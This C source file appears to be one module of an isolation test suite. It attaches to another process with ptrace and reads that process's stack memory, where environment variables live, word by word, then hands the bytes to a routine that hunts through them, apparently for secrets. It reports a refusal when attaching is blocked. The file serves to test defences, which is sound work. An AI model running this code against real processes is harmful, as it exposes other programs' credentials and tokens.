// Attaches as a debugger and reads the stack's pages, where the environment lies,
// word by word. ptrace(2)
#include "attack.h"

#include <errno.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>

static void Peek(const struct Region* region, void* context) {
  static char bytes[1 << 20];
  const pid_t target = *(const pid_t*)context;
  if (!region->is_stack) return;
  size_t length = 0;
  for (uintptr_t at = region->start; at < region->end && length < sizeof bytes; at += sizeof(long)) {
    errno = 0;
    const long word = ptrace(PTRACE_PEEKDATA, target, (void*)at, NULL);
    if (errno != 0) break;
    memcpy(bytes + length, &word, sizeof word);
    length += sizeof word;
  }
  Hunt(bytes, length);
}

static void Ptrace(pid_t target, char** arguments) {
  (void)arguments;
  if (ptrace(PTRACE_ATTACH, target, NULL, NULL) != 0) {
    Refused("ptrace(PTRACE_ATTACH)");
    return;
  }
  int status;
  if (waitpid(target, &status, __WALL) == target) ForEachRegion(target, Peek, &target);
  ptrace(PTRACE_DETACH, target, NULL, NULL);
}

ATTACK("ptrace", Ptrace)
